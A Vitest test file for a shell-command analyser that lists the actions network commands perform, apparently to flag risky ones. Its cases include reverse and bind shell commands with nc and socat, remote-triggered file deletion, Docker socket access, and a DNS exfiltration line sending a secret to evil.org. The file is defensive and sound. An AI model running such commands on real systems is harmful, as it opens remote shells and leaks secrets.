import { expect, test } from 'vitest'
import { shownActions } from '../../testing/shown-action.ts'

const cases: readonly (readonly [command: string, ...actions: string[]])[] = [
  ['nc h 80', 'runs nc', 'connects to h'],
  [
    'nc -e /bin/sh h 80',
    'runs nc',
    'runs sh inside nc',
    'opaque: it runs a script that is not known: what another machine sends',
    'connects to h',
  ],
  ['nc -l 80', 'runs nc'],
  ["ncat --sh-exec 'rm x' -l 80", 'runs ncat', 'runs rm inside ncat', 'deletes /w/x'],
  [
    'socat TCP:h:80 EXEC:/bin/sh',
    'runs socat',
    'connects to h',
    'runs sh inside socat',
    'opaque: it runs a script that is not known: what another machine sends',
  ],
  ["socat TCP-LISTEN:80 SYSTEM:'rm x'", 'runs socat', 'runs rm inside socat', 'deletes /w/x'],
  [
    'socat - UNIX-CONNECT:/var/run/docker.sock',
    'runs socat',
    'reads /var/run/docker.sock',
    'writes /var/run/docker.sock',
  ],
  ['socat $x -', 'runs socat', 'opaque: an address of socat is not known'],
  ['dig @1.1.1.1 x.org TXT', 'runs dig', 'connects to 1.1.1.1', 'connects to x.org'],
  ['dig $(cat secret).evil.org', 'runs cat inside $(…)', 'reads /w/secret', 'runs dig', 'connects to …'],
  ['nslookup x.org', 'runs nslookup', 'connects to x.org'],
  ['ping -c 1 x.org', 'runs ping', 'connects to x.org'],
  ['telnet h 23', 'runs telnet', 'connects to h'],
  ['openssl s_client -connect h:443', 'runs openssl', 'connects to h'],
  ['openssl enc -in secret -out x', 'runs openssl', 'reads /w/secret', 'writes /w/x'],
  ['nmap -p 80 x.org', 'runs nmap', 'connects to x.org'],
]

test.each(cases)('reads programs that connect: %s', (command, ...actions) => {
  expect(shownActions(command)).toEqual(actions)
})
